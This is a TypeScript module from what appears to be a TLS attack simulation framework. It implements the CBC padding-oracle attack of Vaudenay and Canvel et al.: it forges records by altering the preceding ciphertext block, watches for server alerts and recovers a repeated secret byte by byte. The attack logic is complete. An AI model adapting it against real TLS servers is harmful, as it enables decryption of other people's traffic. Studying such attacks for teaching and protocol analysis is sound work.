import { type Bytes, concat, EMPTY, fromUtf8, utf8 } from "../bytes/mod.ts";
import { recordOf } from "../tls/mod.ts";
import type { EventId } from "../trace/mod.ts";
import { ContentType, ProtocolVersion, RECORD_HEADER_LENGTH } from "../wire/mod.ts";
import type { Attack, Position } from "./position.ts";
import { type PassingRecord, relayRecords } from "./relay.ts";

/** Length of a block of AES, in bytes. */
const BLOCK = 16;

/** What she knows of a text that a client sends again and again, and what she wants to know. */
export interface RepeatedText {
  /** What stands before the unknown part, a block at least: what everybody's requests look like. */
  readonly before: string;
  /** Length of the unknown part in bytes. It stands in one block, and ends where that ends. */
  readonly unknown: number;
  /** The bytes it may be made of, the likely ones first. */
  readonly alphabet: Bytes;
  /** Length of the MAC in bytes, as the cipher suite has it. */
  readonly mac: number;
}

/** An attack that takes many connections, one for each question. */
export interface Interrogation {
  readonly attack: Attack;
  /** Whether she has no more questions: she knows all, or has given up. */
  readonly done: boolean;
  /** How many she has asked so far. */
  readonly questions: number;
}

/** One question: does that block of the text end like this? */
interface Question {
  /** Number of the block, from 0. */
  readonly block: number;
  readonly ending: Bytes;
}

/** Whether an alert came, and the packets that asked and answered. */
interface Answer {
  readonly alert: boolean;
  readonly packets: readonly EventId[];
}

/**
 * Reads a text that is sent again and again in CBC records, by asking its receiver about padding
 * (Vaudenay, EUROCRYPT 2002), one question for each connection (Canvel, Hiltgen, Vaudenay and
 * Vuagnoux, CRYPTO 2003). She watches whether an alert comes; what it says is encrypted.
 *
 * @throws {RangeError} if the unknown part does not lie in one block and end with it
 */
export function paddingOracle(text: RepeatedText): Interrogation {
  const { before, unknown, mac } = text;
  // Enough that a MAC and the longest padding find room, besides the block that is asked about.
  const filler = Math.ceil((mac + unknown) / BLOCK) - 1;
  const start = utf8(before).length;
  if (start < BLOCK || unknown > BLOCK || unknown < 1 || (start + unknown) % BLOCK !== 0) {
    throw new RangeError(
      `Cannot ask about bytes ${start} to ${start + unknown}: no end of a block`,
    );
  }
  let questions = 0;
  let done = false;
  return {
    attack(mallory) {
      const inquiry = inquire(text, mallory);
      let question = inquiry.next().value ?? undefined;
      let asked: EventId | undefined;
      const answered = (alert: boolean, packet: EventId) => {
        if (asked === undefined) return;
        const next = inquiry.next({ alert, packets: [asked, packet] });
        asked = undefined;
        question = next.value ?? undefined;
        done = next.done === true;
      };
      relayRecords(
        (record) => {
          if (record.towards !== "server" || record.index !== 0 || question === undefined) {
            return [record.bytes];
          }
          asked = record.packet;
          questions++;
          return [askingRecord(record, question, filler)];
        },
        () => {
          mallory.round("connections");
          return {
            onAnswer: (type, packet) => type === ContentType.alert && answered(true, packet),
            onServerEnd: (packet) => answered(false, packet),
          };
        },
      )(mallory);
    },
    get done() {
      return done;
    },
    get questions() {
      return questions;
    },
  };
}

/** Her questions in order; each is put once the one before is answered. */
function* inquire(
  { before, unknown, alphabet }: RepeatedText,
  mallory: Position,
): Generator<Question, void, Answer> {
  const known = utf8(before);
  const last = known[BLOCK - 1]!;
  // Two questions whose answers she knows: whoever answers them alike tells her nothing.
  const right = yield { block: 0, ending: Uint8Array.of(last) };
  mallory.note(`To a record made for good padding ${answered(right)}`);
  const wrong = yield { block: 0, ending: Uint8Array.of(last ^ 0x80) };
  mallory.note(`To a record made for bad padding ${answered(wrong)}`);
  mallory.endRounds("connections");
  if (right.alert === wrong.alert) {
    mallory.note(`The same answer to both: ${mallory.name} gives up`);
    mallory.tally({ questions: 2 });
    return;
  }
  mallory.note(`Two answers: ${mallory.name} can ask on`);
  const block = Math.floor(known.length / BLOCK);
  const proof: EventId[] = [];
  let found: Bytes = EMPTY;
  let questions = 2;
  while (found.length < unknown) {
    let letter: number | undefined;
    for (const guess of alphabet) {
      questions++;
      const { alert, packets } = yield { block, ending: concat(Uint8Array.of(guess), found) };
      if (alert !== right.alert) continue;
      letter = guess;
      proof.push(...packets);
      break;
    }
    if (letter === undefined) {
      mallory.endRounds("connections");
      mallory.note(`${mallory.name} has no letter left to try, and gives up`);
      return;
    }
    found = concat(Uint8Array.of(letter), found);
  }
  mallory.endRounds("connections");
  mallory.note(`${mallory.name} puts the letters together: ${JSON.stringify(fromUtf8(found))}`);
  const method = "asking the server about padding";
  mallory.learn(found, { by: "computed", from: proof, method }, proof.at(-1));
  mallory.tally({ questions, "bytes read": found.length });
}

function answered({ alert }: Answer): string {
  return alert ? "an alert comes" : "no alert comes";
}

/**
 * A record that asks: it ends with the block in question, behind the block before it with a
 * difference added. Decryption adds the same difference to the plaintext of the block. If the
 * block ends as she believes, padding comes out; so all is well but the MAC.
 *
 * @param filler how many blocks, of whatever content, make the record long enough to hold a MAC
 */
function askingRecord(
  { bytes }: PassingRecord,
  { block, ending }: Question,
  filler: number,
): Bytes {
  const fragment = bytes.subarray(RECORD_HEADER_LENGTH);
  const at = (index: number) => fragment.subarray(index * BLOCK, (index + 1) * BLOCK);
  const before = at(block).slice();
  const padding = ending.length - 1; // so many bytes of padding, all of that value (§6.2.3.2)
  ending.forEach((octet, i) => before[BLOCK - ending.length + i]! ^= octet ^ padding);
  return recordOf(
    ContentType.application_data,
    ProtocolVersion["TLS 1.2"],
    concat(...new Array<Bytes>(filler).fill(at(0)), before, at(block + 1)),
  );
}
